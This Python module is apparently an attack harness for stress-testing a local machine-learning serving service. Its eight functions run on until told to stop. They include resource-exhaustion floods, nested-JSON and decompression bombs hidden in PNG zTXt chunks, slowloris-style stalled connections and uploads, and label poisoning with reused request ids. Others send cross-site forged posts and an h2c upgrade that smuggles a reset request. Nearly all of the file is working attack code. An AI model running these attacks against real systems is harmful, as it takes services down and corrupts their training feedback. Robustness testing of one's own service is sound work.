"""Eight ways to harm others. Each goes on until it is told to stop."""

import json
import struct
import threading
import time
import zlib
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack
from itertools import count
from socket import socket

from hostile.wire import Target, batch, head, request

MIB = 2**20
Stop = threading.Event
Attack = Callable[[Target, Stop], None]


def costly_steps(target: Target, stop: Stop) -> None:
    """Hyper-parameters under which one batch computes for an hour, and batches of the most rows."""
    costly = {
        "fedthe_plus": {"steps": 1000, "views": 256, "tuning_steps": 100},
        "memo": {"views": 64, "steps": 10},
    }
    while not stop.wait(0.1):
        for adapter, hyperparameters in costly.items():
            body = json.dumps({"adapter": adapter, "hyperparameters": hyperparameters}).encode()
            target.ask(request("PUT", f"/clients/costly-{adapter}", body, Content_Type="application/json"))
            target.ask(batch(f"costly-{adapter}", 256, X_Request_Timeout_Ms="2000"))


def endless_json(target: Target, stop: Stop) -> None:
    """Documents of 30 MB and millions of tokens, under every name that might let them pass to a parser."""
    nested = b'{"rows": [' + b"[]," * (10 * MIB) + b"[]]}"
    form = b'--x\r\nContent-Disposition: form-data; name="labels"\r\n\r\n' + nested + b"\r\n--x--\r\n"
    # The length of the header of a safetensors file, as its sender says, and a header of so much.
    state = struct.pack("<Q", 30 * MIB) + b'{"a":[' + b"[]," * (10 * MIB)
    while not stop.wait(0.1):
        for kind in ("text/plain", "application/json", "\xa0application/json"):
            target.ask(request("POST", "/clients/parser/feedback", nested, Content_Type=kind))
        for path in ("enroll", "feedback"):
            target.ask(request("POST", f"/clients/parser/{path}", form, Content_Type="multipart/form-data; boundary=x"))
        target.ask(request("PUT", "/clients/parser/state", state, Content_Type="application/octet-stream"))


def heads_without_end(target: Target, stop: Stop) -> None:
    """URLs and headers without end, a hundred thousand headers, and connections that say nothing."""
    with ExitStack() as held:
        silent = [held.enter_context(target.connect()) for _ in range(200)]
        while not stop.wait(0.1):
            target.ask(b"GET /clients/" + b"a" * (4 * MIB) + b" HTTP/1.1\r\n\r\n")
            target.ask(b"GET /clients/a HTTP/1.1\r\nX-Long: " + b"a" * (4 * MIB) + b"\r\n\r\n")
            target.ask(b"GET /clients/a HTTP/1.1\r\nHost: a\r\n" + b"A: b\r\n" * 100_000 + b"\r\n")
            silent[0].close()
            silent = [*silent[1:], held.enter_context(target.connect())]


def readers_that_never_read(target: Target, stop: Stop) -> None:
    """Exports of a large state, five at a time on each connection, none of which is ever read."""
    target.ask(request("PUT", "/clients/unread", b'{"adapter": "atp"}', Content_Type="application/json"))
    target.ask(batch("unread", 20))
    exports = request("GET", "/clients/unread/state") * 5
    with ExitStack() as held:
        while not stop.wait(0.05):
            connection = held.enter_context(target.connect())
            connection.settimeout(1)
            _send(connection, exports)


def pictures_of_chunks(target: Target, stop: Stop) -> None:
    """Forms of 64 small pictures, each with 60 MiB of compressed text beside its few pixels."""
    picture = _png([_chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(MIB)))] * 60)
    part = b'--x\r\nContent-Disposition: form-data; name="a"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n'
    form = (part + picture + b"\r\n") * 64 + b"--x--\r\n"
    while not stop.wait(0.1):
        target.ask(request("POST", "/clients/pictures/predict", form, Content_Type="multipart/form-data; boundary=x"))


def unfinished_uploads(target: Target, stop: Stop) -> None:
    """Fifteen states of 250 MiB that are being sent for ever, and batches that stop half way."""
    piece = bytes(MIB)
    with ExitStack() as held:
        sending: list[socket] = []
        while not stop.wait(0.02):
            if len(sending) < 15:
                connection = held.enter_context(target.connect())
                connection.settimeout(1)
                _send(connection, head("PUT", "/clients/upload/state", 250 * MIB))
                sending.append(connection)
            sending = [connection for connection in sending if _send(connection, piece)]


def more_than_it_can_take(target: Target, stop: Stop) -> None:
    """Thirty-two batches at a time, of as many clients."""
    numbers = count()

    def flood(_: int) -> None:
        with target.connect() as connection:
            while not stop.is_set():
                if target.ask(batch(f"flood-{next(numbers) % 32}", 64), connection) is None:
                    return flood(_)

    with ThreadPoolExecutor(32) as callers:
        list(callers.map(flood, range(32)))


def lies(target: Target, stop: Stop) -> None:
    """Labels that are not true, request ids used twice, posts from foreign pages, and requests inside of bodies."""
    inner = request("POST", "/clients/victim/reset")
    for number in count():
        client = f"liar-{number % 64}"
        name = f"chosen-{number % 8}"
        for _ in range(2):
            target.ask(batch(client, 10, X_Request_Id=name))
        rows = [{"request_id": name, "row": row, "label": (row + number) % 10} for row in range(10)]
        told = json.dumps({"rows": rows}).encode()
        target.ask(request("POST", f"/clients/{client}/feedback", told, Content_Type="application/json"))
        foreign = {"Origin": "http://evil.example", "Sec_Fetch_Site": "cross-site", "Content_Type": "text/plain"}
        for path in ("reset", "feedback"):
            target.ask(request("POST", f"/clients/victim/{path}", b"", **foreign))
        offered = {"Connection": "Upgrade, HTTP2-Settings", "Upgrade": "h2c", "HTTP2_Settings": "AAMAAABkAAQAAP__"}
        target.ask(request("POST", f"/clients/{client}/predict", inner, Content_Type="image/png", **offered))
        for method, path in (("POST", f"/clients/{client}/reset"), ("DELETE", f"/clients/{client}")):
            target.ask(request(method, path))
        if stop.wait(0.05):
            return


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        costly_steps,
        endless_json,
        heads_without_end,
        readers_that_never_read,
        pictures_of_chunks,
        unfinished_uploads,
        more_than_it_can_take,
        lies,
    )
}


def _send(connection: socket, data: bytes) -> bool:
    """Whether the other side still listens; what it does not take within the timeout is dropped."""
    try:
        connection.sendall(data)
    except TimeoutError:
        return True
    except OSError:
        return False
    return True


def _png(ancillary: list[bytes]) -> bytes:
    rows = (b"\0" + b"\x80" * 28) * 28
    header = struct.pack(">IIBBBBB", 28, 28, 8, 0, 0, 0, 0)
    chunks = [_chunk(b"IHDR", header), *ancillary, _chunk(b"IDAT", zlib.compress(rows)), _chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def run(name: str, url: str, stop: Stop) -> Target:
    """Attack until `stop` is set; a service that closes a connection or is not to be reached ends no attack.

    Each attacker is a caller of its own, who is known by his address: 127.0.0.2 and so on, where the victim has .1.
    """
    target = Target(url, source=f"127.0.0.{2 + list(ATTACKS).index(name)}")
    while not stop.is_set():
        try:
            ATTACKS[name](target, stop)
        except OSError as error:
            target.replies[type(error).__name__] += 1
            time.sleep(0.2)
    return target
